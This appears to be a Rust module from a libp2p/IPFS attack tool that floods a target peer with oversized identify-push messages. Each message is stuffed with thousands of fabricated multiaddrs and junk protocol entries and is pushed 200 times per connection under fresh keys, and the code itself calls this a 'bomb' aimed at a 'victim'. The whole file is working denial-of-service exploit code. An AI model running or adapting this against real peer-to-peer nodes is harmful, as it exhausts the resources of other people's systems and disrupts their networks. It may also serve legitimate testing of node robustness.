//! Introductions that are far too long, and far too many.

use std::{io, sync::Arc, time::Duration};

use futures::AsyncWriteExt as _;
use libp2p::{identity::Keypair, multiaddr::Multiaddr};
use tokio::time::timeout;

use crate::{
    Target,
    client::{Introduction, Session, until_ended},
    proto::Proto,
    tally::Tally,
};

const PUSH: &str = "/ipfs/id/push/1.0.0";

/// Introductions on one connection, after which another key comes.
const PUSHES: u32 = 200;

/// Answers the victim's question with a bomb, and pushes more of them.
pub(super) async fn bomb(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
    let keypair = Keypair::generate_ed25519();
    // Every second attacker stays within 4 KiB, which is what is read, and fills it with addresses.
    let fits = number.is_multiple_of(2);
    let addresses = if fits { 200 } else { 40_000 };
    let full = full(target, &keypair, addresses).framed();
    let introduction = Introduction::new(full.clone());
    let session = Session::open(target, number, &keypair, introduction, tally).await?;
    for _ in 0..PUSHES {
        let mut stream = session.stream(PUSH).await?;
        tally.opened();
        let sent = async {
            stream.write_all(&full).await?;
            stream.close().await
        };
        match timeout(Duration::from_secs(5), sent).await {
            Ok(Ok(())) => tally.sent(full.len()),
            _ => tally.ended(),
        }
        timeout(Duration::from_millis(20), until_ended(stream)).await.ok();
    }
    Ok(())
}

fn full(target: &Target, keypair: &Keypair, addresses: u32) -> Proto {
    (0..addresses).fold(Introduction::begin(target, keypair), |message, count| {
        let [a, b, c, _] = (count << 8).to_be_bytes();
        let address: Multiaddr = [
            libp2p::multiaddr::Protocol::Ip4([10, a, b, c].into()),
            libp2p::multiaddr::Protocol::Tcp(4601),
        ]
        .into_iter()
        .collect();
        let message = message.bytes(2, &address.to_vec());
        if count.is_multiple_of(4) {
            message.bytes(3, format!("/junk/{count}").as_bytes())
        } else {
            message
        }
    })
}
